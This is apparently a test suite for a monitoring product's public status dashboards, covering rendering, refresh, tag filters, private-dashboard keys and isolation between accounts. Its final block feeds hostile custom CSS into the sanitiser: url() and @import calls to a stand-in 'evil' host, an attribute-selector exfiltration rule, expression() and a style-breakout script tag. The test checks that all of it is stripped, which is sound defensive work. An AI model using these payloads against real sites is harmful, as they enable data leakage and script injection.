import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestAccount } from '../helpers/public-api.ts';
import { webServicePerFile } from '../helpers/web-service.ts';
import { underHost } from '../support/web-browser.ts';
import { COLOR_SCHEMES, chromiumPerFile, expectAccessible, withPage } from '../support/web-page-tests.ts';
import { dashboardFixtures } from './dashboard-fixtures.ts';

describe('public dashboards', () => {
  const t = webServicePerFile({ PUBLIC_URL: 'https://outpost.acme.test' });
  const f = dashboardFixtures(() => t.web);
  const chromium = chromiumPerFile();
  let acme: TestAccount;
  let other: TestAccount;
  const ids = { api: '', web: '', batch: '', theirs: '' };

  beforeAll(async () => {
    acme = await t.web.newAccount('Acme');
    other = await t.web.newAccount('Other');
    await f.location(acme);
    await f.location(other);
    ids.api = await f.check(acme, 'Public API', ['prod', 'api']);
    ids.web = await f.check(acme, 'Web shop', ['prod', 'web']);
    ids.batch = await f.check(acme, 'Nightly batch', ['staging', 'api']);
    ids.theirs = await f.check(other, 'Their secret check', ['prod', 'api']);
    for (const ms of [80, 120, 150]) await f.result(acme, ids.api, { responseTime: ms });
    await f.result(acme, ids.web, { responseTime: 900, hasFailures: true });
    await f.result(acme, ids.batch, { responseTime: 300, isDegraded: true });
    await f.result(other, ids.theirs, { responseTime: 5 });
  });

  const page = (path: string, headers: Record<string, string> = {}) =>
    fetch(`${t.web.url}${path}`, { headers: { accept: 'text/html', ...headers }, redirect: 'manual' });

  it('renders the checks with state, 24-hour figures and the open incident, accessibly, in light and dark', async () => {
    const d = await f.dashboard(acme, {
      header: 'Acme production',
      description: 'What our customers use',
      customUrl: 'acme-prod',
      tags: ['prod', 'api'],
      enableIncidents: true,
      expandChecks: true,
      sortByStatus: true,
    });
    await t.web.api(acme, 'POST', '/v1/incidents', {
      name: 'Checkout is slow',
      impact: 'MAJOR',
      dashboardId: d.id,
      incidentUpdates: [{ status: 'INVESTIGATING', description: 'We are looking into it' }],
    });
    for (const scheme of COLOR_SCHEMES) {
      await withPage(chromium.browser, scheme, async (p) => {
        const res = await p.goto(`${t.web.url}/dashboards/acme-prod`);
        expect(res?.status()).toBe(200);
        expect(res?.headers()['content-security-policy']).toContain("script-src 'self'");
        await expect.poll(() => p.locator('h1').textContent()).toBe('Acme production');
        const names = await p.locator('.check__name').allTextContents();
        // OR over tags, failing first: the web shop, then the degraded batch, then the passing API.
        expect(names).toEqual(['Web shop', 'Nightly batch', 'Public API']);
        const api = p.locator(`details[data-check-id="${ids.api}"]`);
        expect(await api.locator('.check__result').textContent()).toBe('Passing');
        expect(await api.locator('.check__metrics').textContent()).toMatch(
          /24h availability\s*100%.*p50\s*1\d\d ms.*p95\s*1\d\d ms.*p99\s*1\d\d ms/,
        );
        expect(await p.locator(`details[data-check-id="${ids.web}"] .check__result`).textContent()).toBe('Failing');
        expect(await p.locator('.active-incident--major').textContent()).toContain('Checkout is slow');
        expect(await p.locator('.status-summary').textContent()).toContain('1 of 3 checks failing');
        await expectAccessible(p, `dashboard-${scheme}`);
      });
    }
  });

  it('refreshes itself at refreshRate with a new result and rotates its pages, without reloading', async () => {
    await f.dashboard(acme, {
      header: 'Live',
      customUrl: 'live',
      tags: ['prod'],
      checksPerPage: 1,
      paginationRate: 300,
      refreshRate: 60,
    });
    await withPage(chromium.browser, 'light', async (p) => {
      await p.clock.install();
      let navigations = 0;
      p.on('framenavigated', (frame) => {
        if (frame === p.mainFrame()) navigations += 1;
      });
      await p.goto(`${t.web.url}/dashboards/live`);
      await p.evaluate(() => {
        (window as unknown as { marker: string }).marker = 'still here';
      });
      const api = p.locator(`details[data-check-id="${ids.api}"] .check__result`);
      expect(await api.textContent()).toBe('Passing');
      await f.result(acme, ids.api, { responseTime: 4000, hasFailures: true });
      await p.clock.runFor(61_000);
      await expect.poll(() => api.textContent()).toBe('Failing');
      // Screen readers hear the changed summary, not the whole list again.
      expect(await p.locator('#dashboard-announce').textContent()).toBe('2 of 2 checks failing');
      // The second page comes after paginationRate seconds.
      await p.clock.runFor(300_000);
      await expect.poll(() => p.locator('.check__name').allTextContents()).toEqual(['Web shop']);
      expect(await p.evaluate(() => (window as unknown as { marker?: string }).marker)).toBe('still here');
      expect(navigations).toBe(1);
      await f.result(acme, ids.api, { responseTime: 100 }); // passing again, for the tests after this one
    });
  });

  it('answers a refresh with a result stored a moment ago, though the same region was rendered just before', async () => {
    await f.dashboard(acme, { header: 'Fresh', customUrl: 'fresh', tags: ['api'], paginate: false });
    const state = async (path: string) =>
      /class="check__result[^"]*">([^<]*)</.exec(await (await page(path)).text())?.[1];
    for (const path of ['/dashboards/fresh/region', '/dashboards/fresh']) {
      expect(await state(path)).toBe('Passing');
      expect(await state(path)).toBe('Passing');
    }
    await f.result(acme, ids.api, { responseTime: 4000, hasFailures: true });
    expect(await state('/dashboards/fresh/region')).toBe('Failing');
    expect(await state('/dashboards/fresh')).toBe('Failing');
    await f.result(acme, ids.api, { responseTime: 100 }); // passing again, for the tests after this one
    expect(await state('/dashboards/fresh/region')).toBe('Passing');
  });

  it('selects checks by tags with OR, or with AND when useTagsAndOperator is set, and every check without tags', async () => {
    await f.dashboard(acme, { header: 'Or', customUrl: 'tags-or', tags: ['web', 'staging'] });
    await f.dashboard(acme, { header: 'And', customUrl: 'tags-and', tags: ['prod', 'api'], useTagsAndOperator: true });
    await f.dashboard(acme, { header: 'All', customUrl: 'tags-none', paginate: false });
    const names = async (url: string) =>
      [...(await (await page(url)).text()).matchAll(/class="check__name">([^<]*)</g)].map((m) => m[1]);
    expect(await names('/dashboards/tags-or')).toEqual(['Web shop', 'Nightly batch']);
    expect(await names('/dashboards/tags-and')).toEqual(['Public API']);
    expect(await names('/dashboards/tags-none')).toEqual(['Public API', 'Web shop', 'Nightly batch']);
  });

  it('honours the display properties: header, logo and link, width, figures, tags, groups, run links', async () => {
    const group = await t.web.api<{ id: number }>(acme, 'POST', '/v2/check-groups', { name: 'Storefront' });
    const grouped = await f.check(acme, 'Cart', ['display'], { groupId: group.id });
    await f.result(acme, grouped, { responseTime: 42 });
    const plain = { header: 'Plain', customUrl: 'display-plain', tags: ['display'] };
    const shaped = {
      header: 'Shaped',
      customUrl: 'display-shaped',
      tags: ['display'],
      description: 'Below the header',
      logo: 'https://cdn.acme.test/logo.png',
      link: 'https://acme.test/',
      favicon: 'https://cdn.acme.test/favicon.ico',
      width: '960PX',
      showP95: false,
      showP99: false,
      hideTags: true,
      showGroupNames: false,
      showCheckRunLinks: true,
      showHeader: false,
      refreshRate: 300,
    };
    await f.dashboard(acme, plain);
    await f.dashboard(acme, shaped);
    const before = await (await page('/dashboards/display-plain')).text();
    expect(before).toContain('<h1>Plain</h1>');
    expect(before).toContain('<span class="check__group">Storefront / </span>');
    expect(before).toMatch(/metric__label">p95.*metric__label">p99/);
    expect(before).toContain('<span class="tag">display</span>');
    expect(before).toContain('class="main dashboard-main width-full"');
    expect(before).not.toContain('/results/');
    const after = await (await page('/dashboards/display-shaped')).text();
    expect(after).toContain('<h1 class="sr-only">Shaped</h1>');
    expect(after).not.toContain('class="dashboard-description"');
    expect(after).toContain(
      '<a href="https://acme.test/"><img class="logo" src="https://cdn.acme.test/logo.png" alt="Shaped: home"/></a>',
    );
    expect(after).toContain('<link rel="icon" href="https://cdn.acme.test/favicon.ico"/>');
    expect(after).toContain('class="main dashboard-main width-960"');
    expect(after).not.toMatch(/metric__label">p9[59]/);
    expect(after).not.toContain('class="tag"');
    expect(after).not.toContain('Storefront');
    // At the service's PUBLIC_URL: a custom domain does not serve the console.
    expect(after).toMatch(
      new RegExp(`href="https://outpost.acme.test/app/checks/${grouped}/results/[0-9a-f-]{36}">Last run of Cart</a>`),
    );
    // Without script: a meta refresh at refreshRate.
    expect(after).toContain('<noscript><meta http-equiv="refresh" content="300"/></noscript>');
  });

  it('pages by checksPerPage with links that work without script, and shows the incidents only when enabled', async () => {
    const d = await f.dashboard(acme, { header: 'Paged', customUrl: 'paged', tags: ['prod', 'api'], checksPerPage: 2 });
    await t.web.api(acme, 'POST', '/v1/incidents', {
      name: 'Hidden unless enabled',
      dashboardId: d.id,
      incidentUpdates: [{ status: 'INVESTIGATING', description: 'x' }],
    });
    const first = await (await page('/dashboards/paged')).text();
    expect(first).toContain('<a href="/dashboards/paged?page=2">2</a>');
    expect(first).not.toContain('Hidden unless enabled');
    const second = await (await page('/dashboards/paged?page=2')).text();
    expect([...second.matchAll(/class="check__name">([^<]*)</g)].map((m) => m[1])).toEqual(['Nightly batch']);
    expect(second).toContain('aria-current="page">2</a>');
  });

  it("never shows another account's checks, even with the same tags", async () => {
    const html = await (await page('/dashboards/acme-prod')).text();
    expect(html).not.toContain('Their secret check');
    const theirs = await f.dashboard(other, { header: 'Theirs', customUrl: 'theirs', tags: ['prod'] });
    const their = await (await page(`/dashboards/${theirs.customUrl}`)).text();
    expect(their).toContain('Their secret check');
    expect(their).not.toContain('Public API');
  });

  it('refuses a private dashboard without its key and reveals nothing; the key once makes a path-scoped cookie', async () => {
    const d = await f.dashboard(acme, { header: 'Board room', customUrl: 'board', isPrivate: true, tags: ['prod'] });
    const key = d.keys[0]?.rawKey ?? '';
    for (const path of [
      '/dashboards/board',
      '/dashboards/board?key=da_wrong',
      '/dashboards/board/region',
      '/dashboards/board/custom.css',
    ]) {
      const res = await page(path);
      expect(res.status, path).toBe(401);
      const body = await res.text();
      expect(body).not.toContain('Board room');
      expect(body).not.toContain('Public API');
    }
    // Any letter case leads to the one path the cookie is scoped to.
    const upper = await page(`/dashboards/BOARD?key=${key}`);
    expect(upper.status).toBe(301);
    expect(upper.headers.get('location')).toBe(`/dashboards/board?key=${key}`);
    const accepted = await page(`/dashboards/board?key=${key}`);
    expect(accepted.status).toBe(303);
    expect(accepted.headers.get('location')).toBe('/dashboards/board');
    const cookie = accepted.headers.get('set-cookie') ?? '';
    expect(cookie).toMatch(/HttpOnly/i);
    expect(cookie).toMatch(/SameSite=Lax/i);
    expect(cookie).toMatch(/Path=\/dashboards\/board(;|$)/);
    await withPage(chromium.browser, 'light', async (p, context) => {
      await p.goto(`${t.web.url}/dashboards/board?key=${key}`);
      expect(p.url()).toBe(`${t.web.url}/dashboards/board`);
      expect(await p.locator('h1').textContent()).toBe('Board room');
      expect(await p.evaluate(() => fetch('/dashboards/board/region').then((r) => r.status))).toBe(200);
      await p.goto(`${t.web.url}/dashboards/board`);
      expect(await p.locator('h1').textContent()).toBe('Board room');
      await p.goto(`${t.web.url}/dashboards/acme-prod`);
      expect(await context.cookies(`${t.web.url}/dashboards/acme-prod`)).toEqual([]);
    });
    for (const scheme of COLOR_SCHEMES) {
      await withPage(chromium.browser, scheme, async (q) => {
        expect((await q.goto(`${t.web.url}/dashboards/board`))?.status()).toBe(401);
        await expectAccessible(q, `dashboard-private-key-${scheme}`);
      });
    }
  });

  it('serves a dashboard at / of its custom domain, its live region there too', async () => {
    await f.dashboard(acme, { header: 'On our domain', customDomain: 'Status.Acme.test', tags: ['api'] });
    await withPage(chromium.browser, 'light', async (p) => {
      const base = underHost(t.web.url, 'status.acme.test');
      const res = await p.goto(`${base}/`);
      expect(res?.status()).toBe(200);
      expect(await p.locator('h1').textContent()).toBe('On our domain');
      expect(await p.locator('#dashboard-region').getAttribute('data-region-url')).toBe('/-/dashboard/region');
      const region = await p.evaluate(() => fetch('/-/dashboard/region').then((r) => r.text()));
      expect(region).toContain('Nightly batch');
      expect((await p.goto(`${underHost(t.web.url, 'nobody.acme.test')}/-/dashboard/region`))?.status()).toBe(404);
    });
  });

  it('answers unknown dashboards with the plain 404 page', async () => {
    for (const path of [
      '/dashboards/nobody',
      '/dashboards/nobody/region',
      '/dashboards/nobody/custom.css',
      '/dashboards/-bad-',
    ]) {
      const res = await page(path);
      expect(res.status, path).toBe(404);
      expect(res.headers.get('content-type')).toMatch(/^text\/html/);
      expect(await res.text()).toContain('There is no dashboard at this address.');
    }
  });

  describe('hostile customCSS', () => {
    let evil: Server;
    const hits: string[] = [];
    beforeAll(async () => {
      evil = createServer((req, res) => {
        hits.push(req.url ?? '');
        res.end('');
      });
      await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    });
    afterAll(() => new Promise<void>((resolve) => evil.close(() => resolve())));

    it('is served as its own text/css stylesheet with what could load or run anything removed, and the rest applied', async () => {
      const port = (evil.address() as AddressInfo).port;
      const remote = `http://evil.acme.test:${port}`;
      const css = [
        `@import url(${remote}/import.css);`,
        `@font-face { font-family: Leak; src: url(${remote}/font.woff); }`,
        `.check__name { text-transform: uppercase; background-image: url(${remote}/bg.png); }`,
        `.check[data-check-id^="a"] { background: \\75 rl(${remote}/exfil-a); }`,
        `.status-summary { width: expression(alert(1)); behavior: url(x.htc); }`,
        '.footer::after { content: "</style><script>alert(1)</script>"; }',
      ].join('\n');
      await f.dashboard(acme, { header: 'Styled', customUrl: 'styled', tags: ['api'], customCSS: css });
      const html = await (await page('/dashboards/styled')).text();
      const href = /<link rel="stylesheet" href="(\/dashboards\/styled\/custom\.css\?v=[0-9a-f]+)"/.exec(html)?.[1];
      expect(href).toBeDefined();
      expect(html).not.toContain('<style');
      const sheet = await fetch(`${t.web.url}${href}`);
      expect(sheet.headers.get('content-type')).toBe('text/css; charset=utf-8');
      expect(sheet.headers.get('x-content-type-options')).toBe('nosniff');
      const served = await sheet.text();
      expect(served).not.toContain('evil');
      // A leading comment names what was dropped, for the dashboard's owner; the rules follow it.
      expect(served).toMatch(/^\/\* outpost dropped: @import; @font-face from another origin; /);
      const rules = served.slice(served.indexOf('*/') + 2);
      for (const banned of ['@import', '@font-face', 'url(', 'expression(', 'behavior', '</style'])
        expect(rules).not.toContain(banned);
      expect(rules).toContain('text-transform: uppercase');

      await withPage(chromium.browser, 'light', async (p) => {
        await p.goto(`${t.web.url}/dashboards/styled`);
        expect(
          await p
            .locator('.check__name')
            .first()
            .evaluate((el) => getComputedStyle(el).textTransform),
        ).toBe('uppercase');
      });
      expect(hits).toEqual([]);
    });
  });
});
